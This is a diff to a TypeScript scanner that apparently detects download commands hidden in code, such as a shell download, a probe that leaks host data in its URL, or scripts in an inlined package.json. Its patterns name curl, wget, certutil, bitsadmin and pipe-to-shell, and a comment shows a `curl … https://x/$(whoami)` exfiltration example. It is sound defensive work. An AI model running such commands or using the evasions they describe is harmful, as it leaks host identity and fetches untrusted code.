@@ -242,8 +242,11 @@ const SHELL_DOWNLOAD =
 const SHELL_DOWNLOADS = new RegExp(SHELL_DOWNLOAD.source, 'gi');
 /** Where a download command's own program name stands in a match of SHELL_DOWNLOAD. */
 const DOWNLOADER_NAME = /curl|wget|Invoke-WebRequest|iwr|certutil|bitsadmin/i;
-/** A call whose arguments are shown to a person, not run: an Error made, a console line. */
-const MESSAGE_CALLS = /\bnew\s+[\w$]*Error\s*\(|\bconsole\s*\.\s*(?:log|error|warn|info|debug)\s*\(/g;
+/**
+ * A call whose arguments are shown to a person, not run: an Error thrown where it is made, a
+ * console line. An Error kept in a name is not one (`const e = new Error('curl …'); exec(e.message)`).
+ */
+const MESSAGE_CALLS = /\bthrow\s+new\s+[\w$]*Error\s*\(|\bconsole\s*\.\s*(?:log|error|warn|info|debug)\s*\(/g;
 /** The declaration a value is assigned in, its statement not yet ended (`let hint = c ? '…' : "curl …"`). */
 const DECLARED = /\b(?:const|let|var)\s+([\w$]{1,100})\s*=[^;]*$/;
 /** How far back the declaration of a download command's name is looked for. */
@@ -252,12 +255,16 @@ const DECLARATION_CHARS = 400;
 const PROBE = /\s(?:-o|-O|--output|--output-document)[\s=]+\/dev\/null\b|\s--spider\b/;
 /** The end of one command in a command line: a separator, a pipe, a closing `)` or backtick, a line end. */
 const COMMAND_END = /[;|&)\n`'"]/;
+/** A command substitution or a host-data word in a probe's own command: data sent out in its address (`curl -o /dev/null https://x/$(whoami)`). */
+const PROBE_SENDS = /\$\(|`|\$\{?(?:HOME|USER|USERNAME|HOSTNAME|LOGNAME)\b|\b(?:whoami|hostname|uname|printenv)\b/;
 /** A second downloader, or anything piped into a shell, later on the same line. */
 const MORE_DOWNLOADS = /\b(?:curl|wget)\b|\|\s*(?:ba|z)?sh\b/i;
 /** An inlined package.json: `scripts` opens an object after a `version` holding a version number on the same line (its end: MANIFEST_FIELD_NEXT). */
 const MANIFEST_SCRIPTS = /["']?version["']?\s*:\s*["']\d+\.\d+\.\d+[^"']{0,40}["'][^\n]{0,2000}?["']?scripts["']?\s*:\s*\{/g;
 /** What follows an inlined package.json's `scripts` object: another of its fields. */
 const MANIFEST_FIELD_NEXT = /^\}\s*,\s*["']?(?:dependencies|devDependencies|peerDependencies|optionalDependencies|engines|repository|keywords|bin|files|main|module|types|type|license|author|homepage|bugs|publishConfig|packageManager|workspaces|exports)["']?\s*:/;
+/** Code that reads a `scripts` member (`pkg.scripts.x`, `pkg['scripts']`, `const { scripts } = pkg`). */
+const READS_SCRIPTS = /\.\s*scripts\b|\[\s*['"`]scripts['"`]\s*\]|\{[^{}=]{0,200}\bscripts\b[^{}=]{0,200}\}\s*=(?!=)/;
 /** At most this many download commands are looked at in one text (each a few scans of it). */
 const MAX_DOWNLOAD_COMMANDS = 32;
 
@@ -288,6 +295,8 @@ function runsDownloadCommand(text: string): boolean {
   let manifests: ((at: number) => boolean) | null = null;
   // The `scripts` of a package.json a bundle inlined (to print its version): text, never run by the code.
   const manifestScript = (at: number): boolean => {
+    // Code that reads a `scripts` member may run one: then no inlined package.json's scripts are text.
+    if (READS_SCRIPTS.test(text)) return false;
     manifests ??= within(
       [...text.matchAll(MANIFEST_SCRIPTS)].flatMap((m) => {
         const open = m.index + m[0].length - 1;
@@ -342,7 +351,7 @@ function probes(text: string, at: number): boolean {
   const line = text.slice(at, at + DECLARATION_CHARS).split('\n')[0]!;
   const end = line.slice(4).search(COMMAND_END);
   const command = end < 0 ? line : line.slice(0, end + 4);
-  return PROBE.test(command) && !MORE_DOWNLOADS.test(line.slice(command.length));
+  return PROBE.test(command) && !PROBE_SENDS.test(command.slice(4)) && !MORE_DOWNLOADS.test(line.slice(command.length));
 }
 
 /** The index of the `}` closing the object literal opened at `open` (strings skipped), or the end of what was looked at. */
